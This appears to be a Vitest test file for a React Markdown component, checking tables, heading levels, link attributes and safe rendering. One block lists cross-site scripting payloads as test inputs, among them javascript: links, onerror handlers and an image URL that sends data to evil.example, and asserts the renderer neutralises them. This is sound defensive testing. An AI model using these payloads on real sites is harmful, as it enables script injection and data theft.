// @vitest-environment jsdom
import { cleanup, render } from '@testing-library/react'
import { afterEach, beforeAll, describe, expect, test, vi } from 'vitest'
import { Markdown } from './markdown.tsx'

afterEach(cleanup)

// The environment lays nothing out, so there is nothing to observe.
beforeAll(() => {
  vi.stubGlobal(
    'ResizeObserver',
    class {
      observe(): void {}
      disconnect(): void {}
    },
  )
})

const show = (text: string): HTMLElement => render(<Markdown text={text} />).container

test('tables and lists of GitHub are shown', () => {
  const page = show('| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done')
  expect(page.querySelectorAll('td')).toHaveLength(2)
  expect(page.querySelector('input')?.getAttribute('aria-label')).toBe('Done')
})

test('headings stand below those of the page', () => {
  const page = show('# One\n\n## Two\n\n### Three\n\n###### Six')
  expect([...page.querySelectorAll(':is(h1, h2, h3, h4, h5, h6)')].map(({ tagName }) => tagName)).toEqual([
    'H4',
    'H5',
    'H6',
    'H6',
  ])
})

test('the heading of footnotes is for screen readers alone', () => {
  const page = show('Text[^1]\n\n[^1]: The note')
  expect(page.querySelector('h5')?.className).toBe('sr-only')
})

test('links to the web open in a tab of their own', () => {
  const link = show('[x](https://example.org/a?b=c)').querySelector('a')
  expect(link?.getAttribute('href')).toBe('https://example.org/a?b=c')
  expect(link?.getAttribute('target')).toBe('_blank')
  expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
})

describe('[row 47] nothing runs and nothing is fetched', () => {
  const payloads = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe src="https://example.org"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>*{display:none}</style>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:x)',
    '[x](//evil.example)',
    '[x](/local)',
    '[x][1]\n\n[1]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '![secret](https://evil.example/?q=secret)',
    '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
    '<details open ontoggle=alert(1)>',
    '<form action="https://evil.example"><input></form>',
    '<math><mtext><script>alert(1)</script></mtext></math>',
    '`<script>alert(1)</script>`',
    '[x](https://example.org" onmouseover="alert(1))',
  ]

  test.each(payloads)('%s', (payload) => {
    for (let end = 1; end <= payload.length; end += 1) {
      const page = show(payload.slice(0, end))
      expect(page.querySelector('script, img, svg, iframe, style, form, object, embed, details, math')).toBeNull()
      for (const element of page.querySelectorAll('*')) {
        expect(element.getAttributeNames().filter((name) => name.startsWith('on'))).toEqual([])
        expect(element.getAttribute('href') ?? 'https:').toMatch(/^(?:https?:|mailto:)/)
      }
      cleanup()
    }
  })
})

test('[row 47] half-written Markdown is shown as far as it goes', () => {
  const text = '# Title\n\n```ts\nconst a = 1\n```\n\n| a |\n|---|\n| **b** |'
  for (let end = 0; end <= text.length; end += 1) {
    expect(() => show(text.slice(0, end))).not.toThrow()
    cleanup()
  }
})

test('an image is its words', () => {
  expect(show('![a weir](https://example.org/x.png)').textContent).toBe('a weir')
})
